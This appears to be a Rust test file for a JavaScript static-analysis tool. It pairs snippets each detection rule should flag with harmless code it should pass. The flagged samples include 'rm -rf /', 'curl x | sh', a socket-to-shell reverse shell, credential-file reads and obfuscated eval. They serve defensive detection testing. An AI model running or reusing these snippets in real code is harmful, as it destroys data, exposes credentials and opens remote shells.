//! Programs that each rule reports, and ordinary ones that it does not.
#![allow(clippy::too_many_lines, reason = "tables of examples")]

mod hostile;

use crate::rule::Checked;
use ringfence_types::Language;
use ringfence_types::Severity::{self, Error, Info, Warning};

fn check(code: &str, dialect: Language) -> Checked {
    super::check(code, dialect, super::Setting::Program)
}

fn findings_in(code: &str, dialect: Language) -> Vec<(&'static str, Severity)> {
    let checked = check(code, dialect);
    let mut findings: Vec<_> = checked
        .findings
        .iter()
        .map(|finding| {
            (
                finding.rule.id.trim_start_matches("javascript."),
                finding.severity,
            )
        })
        .collect();
    findings.sort();
    findings.dedup();
    findings
}

/// Asserts that the rule is reported with this severity, among other findings.
#[track_caller]
fn assert_found(rule: &str, severity: Severity, codes: &[&str]) {
    for code in codes {
        let findings = findings_in(code, Language::Node);
        assert!(findings.contains(&(rule, severity)), "{code}\n{findings:?}");
    }
}

/// Asserts that no finding is more severe than this, in either language.
#[track_caller]
fn assert_at_most(severity: Severity, codes: &[&str]) {
    assert_at_most_in(Language::Node, severity, codes);
    assert_at_most_in(Language::Typescript, severity, codes);
}

/// Asserts the same for one language: code that is not a module is not TypeScript.
#[track_caller]
fn assert_at_most_in(dialect: Language, severity: Severity, codes: &[&str]) {
    for code in codes {
        let findings = findings_in(code, dialect);
        let is_more = findings.iter().any(|(_, found)| *found > severity);
        assert!(!is_more, "{dialect:?}: {code}\n{findings:?}");
    }
}

#[rustfmt::skip]
#[test]
fn dynamic_execution_is_found_through_aliases_and_computed_names() {
    assert_found(
        "dynamic_execution",
        Warning,
        &[
            "eval('1')", "eval(x)", "eval?.(x)", "(0, eval)('x')", "(eval)('x')", "const e = eval; e('x')",
            "let e = eval; e('x')", "let e = 1; e = eval; e('x')", "globalThis.eval('x')", "global['ev' + 'al']('x')",
            "globalThis[`ev${'al'}`]('x')", "const n = 'eval'; globalThis[n]('x')", "globalThis[name]('x')",
            "window.global.eval('x')", "eval.call(null, 'x')", "eval.apply(null, ['x'])", "eval.bind(null)('x')",
            "Reflect.apply(eval, null, ['x'])", "Reflect.get(globalThis, 'eval')('x')", "[1].map(eval)",
            "const {eval: e} = globalThis; e('x')", "const o = {run: eval}; o.run('x')",
            "(function (e) { e('x') })(eval)", "((e) => e('x'))(eval)", "(function () { return this })().eval('x')",
            "\\u0065val('x')", "globalThis['lave'.split('').reverse().join('')]('x')",
            "globalThis[['ev', 'al'].join('')]('x')", "globalThis[String.fromCharCode(101, 118, 97, 108)]('x')",
            "globalThis[atob('ZXZhbA==')]('x')", "globalThis[Buffer.from('6576616c', 'hex').toString()]('x')",
            "globalThis['\\x65\\x76\\x61\\x6c']('x')", "eval`x`", "true && eval('x')", "(a || eval)('x')",
            "(x ? eval : y)('x')", "new Function('return 1')", "Function('return 1')()", "new Function(a, b)",
            "[].constructor.constructor('x')()", "({}).constructor.constructor('x')()",
            "''.constructor.constructor('x')()", "(() => {}).constructor('x')()",
            "(async () => {}).constructor('x')()", "(function* () {}).constructor('x')",
            "function f() {} f.constructor('x')()", "Function.prototype.constructor('x')",
            "Reflect.construct(Function, ['x'])", "Object.getPrototypeOf(async function () {}).constructor('x')",
            "this.constructor.constructor('return process')()", "x['constructor']['constructor']('x')()",
            "const C = [].constructor; C.constructor('x')", "Function.call(null, 'x')", "setTimeout('x', 1)",
            "setInterval('x' + y, 1)", "setTimeout(`x`, 1)", "globalThis.setTimeout('x')",
            "require('vm').runInNewContext('x')", "const vm = require('node:vm'); vm.runInThisContext(x)",
            "import vm from 'vm'; new vm.Script('x').runInThisContext()",
            "import {runInContext as r} from 'node:vm'; r(x, y)",
            "const {compileFunction} = require('vm'); compileFunction('x')",
            "const {Worker} = require('worker_threads'); new Worker('x', {eval: true})", "module._compile('x', 'y')",
            "new module.constructor()._compile('x', '')", "import('data:text/javascript,x')", "f(eval)", "x.y = eval",
        ],
    );
    assert_at_most(
        Info,
        &[
            "{ let x = {eval() {}}; x.eval('x') }", "import {evaluate} from 'mathjs'; evaluate('1+1')",
            "model.eval()", "const s = \"eval('x')\"; // eval(x)", "if (typeof eval === 'function') {}",
            "x instanceof Function", "Function.prototype.call.call(f, x)",
            "setTimeout(() => f(), 10); setTimeout(f, 10); setInterval(function () {}, 1)", "this.constructor.name",
            "new this.constructor(1)",
            "class A extends B { constructor() { super(); this.x = Object.getPrototypeOf(this).constructor.name } }",
            "const re = /eval/; re.exec('x'); 'eval'.length", "obj['eval'] = 1", "const f = (0, mod.fn)('x')",
            "vm.run('x')", "array.constructor === Array",
            "const require = 1; const process = {binding() {}}; process.binding('fs')",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn started_programs_are_found() {
    assert_found(
        "child_process",
        Warning,
        &[
            "require('child_process').exec('ls')", "const cp = require('child_process'); cp.execSync('ls')",
            "const cp = require('node:child_process'); cp['spa' + 'wn']('ls')",
            "const {exec} = require('child_process'); exec('ls')",
            "const {exec: e} = require('child_' + 'process'); e('ls')",
            "const {spawn = 1} = require(`child_${'process'}`); spawn('ls')",
            "import {exec as e} from 'node:child_process'; e('ls')",
            "import * as cp from 'child_process'; cp.fork('x')",
            "import cp from 'child_process'; cp.execFileSync('ls', ['-l'])",
            "(await import('child_process')).exec('ls')",
            "const {default: cp} = await import('child_process'); cp.exec('ls')",
            "module.require('child_process').exec('ls')", "process.mainModule.require('child_process').exec('ls')",
            "require.main.require('child_process').exec('ls')",
            "module.constructor._load('child_process').exec('ls')",
            "import {createRequire} from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')",
            "process.getBuiltinModule('child_process').exec('ls')",
            "const r = require; r('child_process').exec('ls')", "const m = 'child_process'; require(m).exec('ls')",
            "const run = require('util').promisify(require('child_process').exec); run('ls')",
            "[x].map(require('child_process').execSync)", "require('child_process')[x]('ls')",
            "let cp; cp = require('child_process'); cp.exec(y)",
            "var a = require('child_process'), b = a.exec; b('ls')", "require('child_process').exec.call(null, 'ls')",
            "Reflect.apply(require('child_process').exec, null, ['ls'])",
            "globalThis.process.mainModule.require('child_process').exec('x')",
            "const {child_process: {exec}} = {child_process: require('child_process')}; exec('x')",
        ],
    );
    assert_found(
        "child_process",
        Info,
        &[
            "require('child_process')", "import 'child_process'", "import {execa} from 'execa'",
        ],
    );
    assert_found(
        "shell.remove_root",
        Error,
        &[
            "require('child_process').execSync('rm -rf /')", "require('child_process').spawn('rm', ['-rf', '/'])",
            "const {execFileSync} = require('child_process'); execFileSync('sh', ['-c', 'rm -rf ~'])",
        ],
    );
    assert_found(
        "shell.download_and_run",
        Warning,
        &["require('child_process').exec('curl x | sh')"],
    );
    assert_found(
        "reverse_shell",
        Error,
        &[
            "const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []); \
         const c = new net.Socket(); c.connect(1, 'x', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
            "const sh = require('child_process').exec('/bin/bash'); require('net').connect(1, 'x').pipe(sh.stdin)",
        ],
    );
    assert_found(
        "kill_all",
        Error,
        &["process.kill(-1)", "process.kill(-1, 'SIGKILL')"],
    );
    assert_at_most(
        Info,
        &[
            "function require(x) { return {exec() {}} } require('child_process').exec('ls')",
            "(function (require) { require('child_process').exec('ls') })",
            "/a/.exec('b'); regex.exec(text); db.exec('select 1')", "const {exec} = require('./mine'); exec('ls')",
            "import {spawn} from 'threads'; spawn(x)", "process.kill(pid, 'SIGTERM')",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn dynamic_modules_and_native_code_are_found() {
    assert_found(
        "dynamic_require",
        Warning,
        &[
            "require(x)", "import(x)", "require(process.argv[2])", "module.require(x)", "require(f())",
        ],
    );
    assert_found(
        "dynamic_require",
        Info,
        &[
            "require('./locale/' + name)", "import(`./pages/${x}.js`)", "require(`../${x}`)",
        ],
    );
    assert_found(
        "native",
        Warning,
        &[
            "process.binding('fs')", "process['bind' + 'ing']('fs')", "global.process.binding('spawn_sync')",
            "process._linkedBinding('x')", "process.dlopen(module, 'x.node')", "require('./x.node')",
            "process[x]('fs')", "const {binding} = process; binding('fs')",
        ],
    );
    assert_found(
        "worker_threads",
        Info,
        &["import {Worker} from 'worker_threads'", "require('cluster')"],
    );
    assert_found(
        "inspector",
        Warning,
        &["require('inspector')", "import i from 'node:inspector'"],
    );
    assert_found(
        "network",
        Info,
        &[
            "fetch('https://example.com')", "require('net').connect(80, 'example.com')", "import tls from 'tls'",
            "require('http').get('http://example.com')",
            "const https = require('https'); https.request({host: 'x.y'})", "require('dgram').createSocket('udp4')",
            "new WebSocket('wss://x.y')",
        ],
    );
    assert_found("exit", Info, &["process.exit(1)", "process.abort()"]);
    assert_at_most(
        Info,
        &[
            "require('express'); require('./lib'); require('../x.json')",
            "const x = require('fs'), y = require('path')",
            "process.on('exit', f); process.stdout.write('x'); process.env.HOME",
            "const express = require('express'); const app = express(); app.get('/', (q, r) => r.send('x')); app.listen(3000)",
            "await import('./x.js')",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn deletion_credential_prototype_and_obfuscation_rules_hold() {
    assert_found(
        "file_deletion",
        Info,
        &[
            "require('fs').unlinkSync('x')", "import {rm} from 'fs/promises'; await rm('x')",
            "const fs = require('fs'); fs.rmSync('dist', {recursive: true, force: true})",
            "require('fs').promises.rmdir('x')",
            "const path = require('path'); require('fs').rmSync(path.join(__dirname, 'dist'), {recursive: true})",
        ],
    );
    assert_found(
        "file_deletion",
        Warning,
        &[
            "require('fs').rmSync(x, {recursive: true})", "require('fs').rmSync('/opt/x/y', {recursive: true})",
            "require('rimraf')(x)", "const fs = require('fs'); const o = {recursive: true}; fs.rmSync('../x', o)",
        ],
    );
    assert_found(
        "file_deletion",
        Error,
        &[
            "require('fs').rmSync('/', {recursive: true, force: true})",
            "require('fs').rmSync('/etc', {recursive: true})",
            "require('fs').promises.rm(require('os').homedir(), {recursive: true})",
            "const d = '/'; require('fs').rmSync(d, {recursive: true})",
            "require('fs').rmSync('../..', {recursive: true})",
        ],
    );
    assert_found(
        "credential_path",
        Warning,
        &[
            "fs.readFileSync('/etc/shadow')", "const p = '~/.ssh/id_rsa'",
            "require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'))",
            "x = process.env.HOME + '/.aws/credentials'", "`${home}/.netrc`", "require('fs').readFileSync('.env')",
            "open('/proc/self/environ')",
        ],
    );
    assert_found(
        "prototype_pollution",
        Warning,
        &[
            "x.__proto__.y = 1", "x['__proto__']['y'] = 1", "x.constructor.prototype.y = 1", "Object.prototype.y = 1",
            "Object.assign(Object.prototype, y)", "const k = '__proto__'; x[k].y = 1",
            "JSON.parse('{\"__proto__\": {\"x\": 1}}')", "Object.defineProperty(x.__proto__, 'y', {})",
        ],
    );
    assert_found(
        "obfuscation",
        Warning,
        &[
            "\\u0065val('x')", "x.\\u0065val('x')",
            "'\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'", "eval(atob('YWxlcnQoMSk='))",
            "eval(Buffer.from(x, 'base64').toString())", "new Function(String.fromCharCode(1, 2))",
            "var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4,_0x1e2f=5;",
        ],
    );
    assert_at_most(
        Info,
        &[
            "fs.readFileSync('package.json')", "const o = {__proto__: null}; Object.create(null)",
            "A.prototype.f = function () {}; app.__proto__ = proto", "'caf\\u00e9 \\u{1F600}'; '\\x1b[31m'; '\\n\\t'",
            "atob(x); Buffer.from(y, 'base64')", "require('dotenv').config({path: '.env'})",
            "const h = '0123456789abcdef'; const _0xff = 1",
            "array.pop(); map.delete(x); delete x.y; store.remove(1); set.clear()",
            "element.remove(); fs.existsSync('/etc/hosts')",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn ordinary_programs_give_no_warning() {
    assert_at_most(
        Info,
        &[
            "#!/usr/bin/env node\n'use strict';\nconst fs = require('fs');\nmodule.exports = function f(a, b = 1, ...c) { return a?.b ?? c };",
            "import fs from 'node:fs'; export default class A { #x = 1; static y = 2; get z() { return this.#x } static { A.w = 1 } }",
            "await Promise.all([1, 2].map(async (x) => { for await (const y of f(x)) { yield_(y) } }));",
            "label: for (let i = 0, j = 1; i < 10; i++) { if (i) continue label; else break label }",
            "function* g() { const x = yield 1; yield* h() } var {a, b: [c = 1], ...d} = e;",
            "switch (x) { case 1: { break } default: f() } do { x-- } while (x); with_(y);",
            "const t = tag`a${1}b${`c${d}`}`; x ||= 1; y &&= 2; z ??= 3; w **= 2;", "await f()",
            "const {writeFileSync} = require('fs'); writeFileSync('x', JSON.stringify({a: 1}, null, 2));",
            "async function main() { try { await run() } catch { console.error('x') } finally { done() } }\nmain().catch((e) => { throw e });",
            "const [a, , b] = [1, 2, 3]; const o = {async f() {}, get x() { return 1 }, set x(v) {}, *g() {}, ['k' + 1]: 2, 3: 4, 'y': 5};",
            "/[/\\]]+/gu.test(a / b / c); a = b\n/c/g.exec(d)", "if (a) b; else c\n;[1].forEach(f)\n;`x`.length",
            "const n = 1_000n + 0xFFn; 0b11; 0o17; .5e-3; import.meta.url;",
        ],
    );
    assert_at_most_in(
        Language::Typescript,
        Info,
        &[
            "enum Color { Red = 1, Green = 'g'.length } namespace N { export const x = 1 } declare const y: number;",
            "abstract class A<T extends object = {}> extends B<T> implements C, D { private readonly x: Map<string, T[]> = new Map(); constructor(protected y?: number) { super() } abstract f(): void; @dec() g<U>(this: A<T>, u: U): u is U & T { return true } }",
            "type F = (a: number, ...b: string[]) => asserts a is never; interface I { [k: string]: unknown; readonly x?: `a${string}` }",
            "const x = <T,>(a: T): T => a; let y = z as unknown as string; let w = v!; const c = {a: 1} as const satisfies I;",
            "import type {T} from './t'; import {type U, V} from './u'; export type {T}; export * as ns from './v'; import fs = require('fs');",
            "function f(a: string): string; function f(a: number): number; function f(a: any) { return a }",
            "type P<T> = {readonly [K in keyof T]?: T[K] extends (infer U)[] ? U : never}; let t: [a: number, b?: string, ...c: boolean[]];",
            "declare module 'x' { export function f(): void } declare global { interface Window { x: number } }",
            "@Component({selector: 'x'}) export class X { @Input() a!: string; constructor(@Inject(Y) private y: Y) {} }",
            "const App = () => <div className=\"x\">{items.map((i) => <Item key={i} />)}</div>;",
            "const express = require('express'); const app = express(); app.use((req: Request, res: Response, next: NextFunction) => next());",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn syntax_error_is_reported_at_its_position() {
    for (code, place) in [
        ("let a = ;", 8),
        ("f(1", 3),
        ("if (a { b() }", 6),
        ("const a = 'x", 10),
        ("}", 0),
        ("let x = {a: 1", 13),
        ("a b", 1),
        ("const x = <div>a</div>", 10),
        ("for (;;", 7),
        ("import {a from 'b'", 10),
    ] {
        let checked = check(code, Language::Node);
        let finding = checked
            .findings
            .iter()
            .find(|finding| finding.rule.id == "javascript.syntax")
            .expect(code);
        assert_eq!(finding.severity, Error);
        assert!(
            finding.range.start.abs_diff(place) <= 2,
            "{code}: {:?} {}",
            finding.range,
            finding.what
        );
    }
    for code in [
        "let a: number = ;", "interface {", "enum A { B = }", "type A = ", "const a: = 1",
    ] {
        assert!(
            findings_in(code, Language::Typescript).contains(&("syntax", Error)),
            "{code}"
        );
    }
}

#[test]
fn rules_apply_to_code_around_an_early_error() {
    let findings = findings_in(
        "let a; let a;\nrequire('child_process').exec('ls');\n",
        Language::Node,
    );
    assert!(
        findings.contains(&("syntax", Error)) && findings.contains(&("child_process", Warning)),
        "{findings:?}"
    );
}

#[rustfmt::skip]
#[test]
fn analysis_counts_match_the_program() {
    let checked = check(
        "import fs from 'node:fs';\nimport {a} from './a.js';\nexport {b} from './b.js';\nconst c = require('c');\nawait import('d');\n\
         function f() {}\nconst g = () => {};\nclass A { m() {} get x() { return 1 } }\nconst B = class {};\n\
         if (a) {} else if (b) {}\nfor (const x of y) {}\nwhile (a && b || c) {}\nswitch (x) { case 1: case 2: default: }\n\
         try {} catch {}\nz = a ? b : c ?? d;\nfetch('https://api.example.com/v1');\nrequire('net').connect({host: 'db.example.org', port: 1});\n",
        Language::Node,
    );
    let imports = ["./a.js", "./b.js", "c", "d", "net", "node:fs"];
    assert!(checked.imports.iter().eq(imports));
    assert_eq!(checked.analysis.functions, 4);
    assert_eq!(checked.analysis.classes, 2);
    assert_eq!(checked.analysis.cyclomatic_complexity, 12);
    assert!(checked.hosts.iter().eq(["api.example.com", "db.example.org"]));
}

#[rustfmt::skip]
#[test]
fn names_resolve_to_the_declaration_in_scope() {
    assert_found(
        "dynamic_execution",
        Warning,
        &[
            "{ let eval_ = eval; { eval_('x') } }", "function f() { return e('x') } const e = eval;",
            "var e; if (x) { e = eval } e('x')", "for (const e of [eval]) { e('x') }",
            "try {} catch (eval_) {} eval('x')", "{ function eval() {} } (function () { globalThis.eval('x') })()",
            "const a = {b: {c: eval}}; const {b: {c: d}} = a; d('x')", "const [e] = [eval]; e('x')",
            "const e = f => f, g = eval; e(g)('x'); g('y')",
        ],
    );
    assert_at_most(
        Info,
        &[
            "import eval_ from 'x'; eval_('x')", "function f({eval: e}) { e('x') }",
            "class require { static x() {} } require.x('child_process')", "var a = a; a(); var b = c, c = b; b('x')",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn changes_to_builtin_prototypes_are_found() {
    assert_found(
        "prototype_pollution",
        Warning,
        &[
            "Object.prototype.x = 1", "Array.prototype.last = function () { return this[this.length - 1] }",
            "String.prototype['x'] = 1", "Function.prototype.bind = f", "Promise.prototype.done = f",
            "Map.prototype.x = 1; Set.prototype.y = 2", "TypeError.prototype.x = 1", "Uint8Array.prototype.x = 1",
            "Object.defineProperty(Array.prototype, 'last', {})", "Object.assign(String.prototype, {x() {}})",
            "const proto = Array.prototype; proto.last = f", "globalThis.Array.prototype.x = 1",
        ],
    );
    assert_at_most(
        Info,
        &[
            "function A() {} A.prototype.x = 1", "class Array {} Array.prototype.x = 1", "Mine.prototype.x = 1",
            "Array.prototype.slice.call(a)", "const last = Array.prototype.at",
            "A.prototype = Object.create(Array.prototype)", "const proto = A.prototype; proto.x = 1",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn strings_computed_from_constants_are_errors() {
    for text in [
        "atob('cm0gLXJmIC8=')", "Buffer.from('726d202d7266202f', 'hex').toString()",
        "String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 47)", "String.fromCharCode(...[114, 109])",
        "[114, 109].map(String.fromCharCode).join('')", "decodeURIComponent('%72%6d')",
        "'rX -rf /'.replace('X', 'm')", "'RM -RF /'.toLowerCase()", "'xrm -rf /'.slice(1)", "'r'.concat('m -rf /')",
        "`${'RM'.toLowerCase()} -rf /`", "'RM'.toLowerCase() + ' -rf /'",
    ] {
        let code = format!(
            "const cp = require('child_process'); const c = {text}; cp.execSync(c); cp.execSync({text})"
        );
        assert_found("obfuscation", Error, &[&code]);
        let code = format!("require('fs').rmSync({text}, {{recursive: true}})");
        assert_found("file_deletion", Error, &[&code]);
    }
    for code in [
        "require('fs').rmSync('dist/'.concat(name), {recursive: true})",
        "require('child_process').execSync(command.trim())",
        "require('child_process').execSync('cat', {input: Buffer.from('x')})",
    ] {
        assert_at_most_in(Language::Node, Warning, &[code]);
    }
}

#[rustfmt::skip]
#[test]
fn findings_are_sentences() {
    let what = |code: &str| check(code, Language::Node).findings[0].what.clone();
    assert_eq!(what("fetch(x)"), "`fetch` speaks to other hosts");
    assert_eq!(what("process.exit(1)"), "`process.exit` ends the program");
    for code in [
        "process.kill(-1)", "process.binding('fs')", "WebAssembly.compile(x)", "x = '/etc/shadow'", "require(x)",
        "require('./' + x)", "new WebSocket(x)", "require('http').get(x)",
        "const {Worker} = require('worker_threads'); new Worker('./a.js')",
    ] {
        for finding in check(code, Language::Node).findings {
            assert!(
                finding.what.contains(' ') && !finding.what.ends_with(['`', '.'])
                    || finding.what.contains("loads `"),
                "{}",
                finding.what
            );
        }
    }
}

#[rustfmt::skip]
#[test]
fn names_reserved_in_strict_mode_are_accepted_in_scripts() {
    assert_at_most_in(
        Language::Node,
        Info,
        &[
            "function f(eval) { return eval('x') }", "return 1", "const e = x => x; { const eval = e; eval('x') }",
            "try { f() } catch (eval) { eval('x') }",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn unusual_line_ends_are_reported() {
    let is_reported = |code: &str| {
        let found = check(code, Language::Node).findings;
        found
            .iter()
            .any(|finding| finding.rule.id == "javascript.line_end")
    };
    for code in [
        "#!x\rconsole.log(1)", "#!x\u{2028}console.log(1)", "<!-- c\rconsole.log(1)",
        "x = 1\n/* \r */ --> y\rconsole.log(1)", "// c\u{2029}console.log(1)",
    ] {
        assert!(is_reported(code), "{code:?}");
    }
    for code in ["const a = 1;\r\nconst b = 2;\r\n", "const a = '\\u2028\\r';\n"] {
        assert!(!is_reported(code), "{code:?}");
    }
}
